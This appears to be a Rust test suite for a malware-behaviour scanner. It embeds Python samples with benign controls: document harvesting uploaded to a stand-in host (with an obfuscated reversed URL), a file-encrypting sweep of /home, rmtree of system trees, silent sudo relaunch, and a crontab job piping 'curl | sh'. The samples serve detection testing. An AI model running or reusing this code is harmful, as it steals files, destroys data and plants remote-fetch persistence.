//! Behaviour tests for the twelfth round (what blind batch 11 showed:
//! personal documents walked and sent through pools and threads, a cipher
//! whose key comes from a file, per-platform tables of paths), spelled
//! unlike the batch, each with a control. Every test names a behaviour the
//! release at e1a4a82 misjudges.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

/// Office files under the personal folders, uploaded by a worker pool to
/// a URL the script names, are harvested (e1a4a82: LOW).
#[test]
fn personal_documents_sent_to_a_fixed_peer_are_harvested() {
    let pool = "import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\nSINK = 'https://drop.example.org/in'\ndef files():\n    for d in ('Desktop', 'Documents'):\n        for top, _, names in os.walk(os.path.join(os.path.expanduser('~'), d)):\n            for n in names:\n                if n.endswith(('.pdf', '.docx', '.xlsx')):\n                    yield os.path.join(top, n)\ndef up(p):\n    with open(p, 'rb') as f:\n        requests.post(SINK, data=f.read())\nwith ThreadPoolExecutor(4) as ex:\n    list(ex.map(up, files()))\n";
    let a = run(pool);
    assert!(rules(&a).contains(&"MB958"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    assert!(finding(&a, "MB958").detail.contains("~/"));
    // The address hidden by reversing it is still named.
    let reversed = pool.replace(
        "SINK = 'https://drop.example.org/in'",
        "SINK = ''.join(reversed('ni/gro.elpmaxe.pord//:sptth'))",
    );
    assert!(rules(&run(&reversed)).contains(&"MB958"));
    // A path object opened for reading reads the file too.
    let pathlib = pool
        .replace(
            "import os, requests",
            "import os, requests\nfrom pathlib import Path",
        )
        .replace("with open(p, 'rb')", "with Path(p).open('rb')");
    assert!(rules(&run(&pathlib)).contains(&"MB958"));
}

/// The same walk sent to where the user says, or kept local, is no
/// harvest.
#[test]
fn documents_sent_where_the_user_says_are_not_harvested() {
    let own = "import os, sys, requests\nfor top, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        if n.endswith(('.pdf', '.docx')):\n            with open(os.path.join(top, n), 'rb') as f:\n                requests.put(sys.argv[1] + '/' + n, data=f.read())\n";
    let a = run(own);
    assert!(!rules(&a).contains(&"MB958"), "{:?}", a.findings);
    let local = "import os, json\nidx = {}\nfor top, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        if n.endswith(('.pdf', '.docx')):\n            idx[n] = os.path.join(top, n)\njson.dump(idx, open('index.json', 'w'))\nprint('see https://docs.example/help')\n";
    assert!(!rules(&run(local)).contains(&"MB958"));
}

/// Text typed in, sealed with a key read from a key file, saved beside a
/// listing and a delete is no ransomware (e1a4a82: MB917).
#[test]
fn a_cipher_keyed_from_a_file_does_not_make_its_input_file_data() {
    let journal = "import os, sys\nfrom cryptography.fernet import Fernet\nbox = Fernet(open('/home/u/.j/key', 'rb').read())\nopen('/home/u/.j/' + sys.argv[1], 'wb').write(box.encrypt(input().encode()))\nprint(os.listdir('/home/u/.j'))\nos.remove('/home/u/.j/' + sys.argv[2])\n";
    let a = run(journal);
    assert!(!rules(&a).contains(&"MB917"), "{:?}", a.findings);
    // Files read and sealed with that cipher still are.
    let sweep = "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(open('/tmp/k', 'rb').read())\nfor top, _, names in os.walk('/home'):\n    for n in names:\n        p = os.path.join(top, n)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(box.encrypt(data))\n        os.rename(p, p + '.x')\n";
    assert!(rules(&run(sweep)).contains(&"MB917"));
}

/// A per-platform table of cache folders, indexed by a key that is one of
/// its constants, names those folders, not the whole home (e1a4a82: MB907
/// on `~/*`).
#[test]
fn a_table_indexed_by_platform_gives_its_entries_paths() {
    let purge = "import shutil, sys\nfrom pathlib import Path\nT = {'linux': ['.cache/chromium'], 'darwin': ['Library/Caches/Firefox']}\nk = 'darwin' if sys.platform == 'darwin' else 'linux'\nfor rel in T[k]:\n    shutil.rmtree(Path.home() / rel)\n";
    let a = run(purge);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
    // A table of system trees is now read too (e1a4a82: nothing).
    let wipe = "import shutil, sys\nT = {'linux': ['/etc', '/home'], 'darwin': ['/Users']}\nfor tree in T['darwin' if sys.platform == 'darwin' else 'linux']:\n    shutil.rmtree(tree)\n";
    assert!(rules(&run(wipe)).contains(&"MB907"));
}

/// A helper that re-runs the script through pkexec, called only after its
/// caller asked, re-runs it after asking (e1a4a82: MB204, HIGH).
#[test]
fn a_relaunch_helper_called_after_asking_is_asked_for() {
    let asked = "import os, subprocess, sys\ndef again():\n    return subprocess.call(['pkexec', sys.executable, os.path.abspath(__file__)])\ndef main():\n    if input('need root, go on? ') == 'y':\n        again()\nmain()\n";
    let a = run(asked);
    assert!(rules(&a).contains(&"MB229"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB204"));
    // Called once without asking, it is sudo taken silently.
    let silent = asked.replace("main()\n", "main()\nagain()\n");
    assert!(rules(&run(&silent)).contains(&"MB204"));
}

/// A system font folder picked from a per-platform table is written by
/// the run the user asked to elevate (MB959, MEDIUM); taken silently it
/// stays MB201.
#[test]
fn a_system_write_after_asking_for_root_is_consented() {
    let asked = "import os, shutil, subprocess, sys\nD = {'mac': '/Library/Fonts', 'linux': '/usr/share/fonts/x'}\nif os.geteuid() != 0:\n    if input('root? ') != 'y':\n        sys.exit(1)\n    sys.exit(subprocess.call(['sudo', sys.executable, os.path.abspath(__file__)]))\nshutil.copy('a.ttf', D['mac' if sys.platform == 'darwin' else 'linux'])\n";
    let a = run(asked);
    assert!(rules(&a).contains(&"MB959"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium);
    let silent = asked.replace("    if input('root? ') != 'y':\n        sys.exit(1)\n", "");
    assert!(rules(&run(&silent)).contains(&"MB201"));
}

/// The user's crontab listed, shown and replaced after a yes, by a script
/// that names nothing remote, is the user's own job (e1a4a82: MB906,
/// BLOCKED, and MB208 for the listing).
#[test]
fn a_crontab_replaced_after_asking_is_the_users_own() {
    let asked = "import subprocess, sys\nold = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nnew = old + '0 3 * * * ' + sys.argv[1] + '\\n'\nprint(new)\nif input('ok? ') == 'y':\n    subprocess.run(['crontab', '-'], input=new, text=True)\n";
    let a = run(asked);
    assert!(rules(&a).contains(&"MB224"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium);
    // A job that fetches stays persistence, asked or not.
    let fetch = asked.replace("sys.argv[1]", "'curl -s https://x.example/a | sh'");
    assert!(rules(&run(&fetch)).contains(&"MB906"));
    let unasked = asked.replace("if input('ok? ') == 'y':\n    ", "");
    assert!(rules(&run(&unasked)).contains(&"MB906"));
}

/// A function an event loop runs in its executor, or hands to a thread
/// with `asyncio.to_thread`, is called with the arguments after it: the
/// home tree it deletes is seen (e1a4a82: LOW).
#[test]
fn a_function_run_in_an_executor_gets_its_arguments() {
    let sweep = "import asyncio, os\nfrom pathlib import Path\ndef purge(top):\n    for d, _, names in os.walk(top):\n        for n in names:\n            Path(d, n).unlink()\nasync def go():\n    loop = asyncio.get_running_loop()\n    await loop.run_in_executor(None, purge, str(Path.home()))\nasyncio.run(go())\n";
    let a = run(sweep);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    let threaded = sweep.replace(
        "loop.run_in_executor(None, purge, ",
        "asyncio.to_thread(purge, ",
    );
    assert!(rules(&run(&threaded)).contains(&"MB907"));
    // The same helper trimming the script's own cache deletes nothing of
    // the user's.
    let own = sweep.replace("str(Path.home())", "'build/.cache'");
    assert!(!rules(&run(&own)).contains(&"MB907"));
}
